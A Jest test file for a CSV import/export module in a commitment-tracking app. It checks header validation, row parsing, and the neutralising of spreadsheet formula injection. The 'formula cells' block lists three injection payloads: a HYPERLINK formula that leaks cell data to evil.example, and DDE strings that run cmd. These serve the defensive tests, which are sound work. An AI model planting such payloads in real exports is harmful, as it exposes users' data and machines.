import { COMMITMENT_CSV_COLUMNS, CommitmentSummaryDto } from '@pactwatch/shared/contracts';
import { checkHeader, neutraliseCell, parseRow, restoreCell, toCsvRecord } from './csv-format';

const header = [...COMMITMENT_CSV_COLUMNS];

function row(values: Partial<Record<(typeof COMMITMENT_CSV_COLUMNS)[number], string>>): string[] {
  return header.map((column) => values[column] ?? '');
}

describe('commitments CSV format', () => {
  it('accepts a header with the required columns in any order, and names unknown, repeated and missing ones', () => {
    expect(checkHeader(['title', 'agreement', 'ref_code'])).toEqual([]);
    expect(checkHeader(['ref_code', 'title', 'title', 'colour']).map((e) => [e.row, e.column])).toEqual([
      [1, 'title'],
      [1, 'colour'],
      [1, 'agreement'],
    ]);
  });

  it('parses a relative deadline with its anchor by name', () => {
    const { draft, errors } = parseRow(
      header,
      row({
        ref_code: 'AZ-US-2025-01',
        title: 'Draft the charter',
        agreement: 'MoU',
        agreement_kind: 'mou',
        parties: 'az; US',
        party_names: 'Azerbaijan;United States',
        deadline_kind: 'relative',
        deadline_duration: 'P6M',
        anchor_event: 'MoU signed',
        anchor_event_date: '2025-08-08',
        status: 'in_progress',
        progress: '30',
        due_date: 'ignored',
        flags: 'ignored',
      }),
      2,
    );
    expect(errors).toEqual([]);
    expect(draft).toMatchObject({
      row: 2,
      refCode: 'AZ-US-2025-01',
      agreement: { title: 'MoU', kind: 'mou', signedOn: null },
      parties: [
        { code: 'AZ', name: 'Azerbaijan' },
        { code: 'US', name: 'United States' },
      ],
      deadline: { kind: 'relative', duration: 'P6M' },
      anchor: { name: 'MoU signed', date: '2025-08-08' },
      status: 'in_progress',
      progress: 30,
    });
  });

  it('reports every bad cell of a row by column, with the deadline library’s messages', () => {
    const { draft, errors } = parseRow(
      header,
      row({
        ref_code: 'bad code',
        agreement: 'MoU',
        deadline_kind: 'relative',
        deadline_duration: 'P-1M',
        progress: '101',
        status: 'done',
        is_example: 'maybe',
      }),
      7,
    );
    expect(draft).toBeNull();
    expect(errors.map((e) => [e.row, e.column])).toEqual([
      [7, 'ref_code'],
      [7, 'title'],
      [7, 'anchor_event'],
      [7, 'deadline_duration'],
      [7, 'status'],
      [7, 'progress'],
      [7, 'is_example'],
    ]);
    expect(errors.find((e) => e.column === 'deadline_duration')?.message).toBe('must not be negative');
  });

  it('writes a summary as a record whose lists are separated by semicolons', () => {
    const item = {
      id: 'i',
      refCode: 'R-1',
      title: 'T',
      agreement: { id: 'a', title: 'A', kind: 'treaty', signedOn: null },
      parentId: null,
      responsibleBody: 'B',
      parties: [
        { id: '1', code: 'AZ', name: 'Azerbaijan' },
        { id: '2', code: 'US', name: 'United States' },
      ],
      areas: [],
      deadline: { kind: 'absolute', date: '2026-12-31', precision: 'year' },
      dueDate: '2026-12-31',
      anchorPending: false,
      deadlineText: 'By 31 Dec 2026 (end of year)',
      status: 'at_risk',
      progress: 40,
      rolledUpProgress: 40,
      flags: ['stale'],
      lastVerifiedOn: null,
      isExample: false,
      version: 3,
      updatedAt: '2026-01-01T00:00:00.000Z',
    } as CommitmentSummaryDto;
    const record = toCsvRecord(item, {
      description: 'D',
      sourceQuote: '',
      sourceLocator: '',
      sourceUrl: null,
      parentRefCode: null,
      anchorName: null,
      anchorDate: null,
    });
    expect(Object.keys(record)).toEqual(header);
    expect(record).toMatchObject({
      parties: 'AZ;US',
      party_names: 'Azerbaijan;United States',
      deadline_precision: 'year',
      flags: 'stale',
      is_example: 'false',
    });
    const { draft, errors } = parseRow(
      header,
      header.map((column) => record[column]),
      2,
    );
    expect(errors).toEqual([]);
    expect(draft).toMatchObject({
      refCode: 'R-1',
      deadline: { kind: 'absolute', date: '2026-12-31', precision: 'year' },
      status: 'at_risk',
      progress: 40,
    });
  });

  describe('formula cells', () => {
    const payloads = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|'/c calc'!A1", "@SUM(1+1)*cmd|'/c calc'!A0"];

    it('prefixes every cell a spreadsheet could run with an apostrophe', () => {
      for (const value of [...payloads, '-2+3', '\tx', '\rx', '  =1+1', '＝1+1', "'quoted"])
        expect(neutraliseCell(value)).toBe(`'${value}`);
    });

    it('leaves ordinary text, numbers, dates and durations alone', () => {
      for (const value of ['Draft the charter', '50', '2026-02-08', 'P6M', 'AZ;US', 'It’s done', 'x=1', ''])
        expect(neutraliseCell(value)).toBe(value);
    });

    it('reads every exported value back exactly, apostrophes included', () => {
      for (const value of [...payloads, '-2+3', '\t=x', "'", "''x", "' =x", 'plain', "don't"])
        expect(restoreCell(neutraliseCell(value))).toBe(value);
    });

    it('imports a neutralised title as the original text', () => {
      const { draft, errors } = parseRow(header, row({ ref_code: 'X-1', title: `'${payloads[0]}`, agreement: "''Quoted agreement" }), 2);
      expect(errors).toEqual([]);
      expect(draft?.title).toBe(payloads[0]);
      expect(draft?.agreement.title).toBe("'Quoted agreement");
    });
  });
});
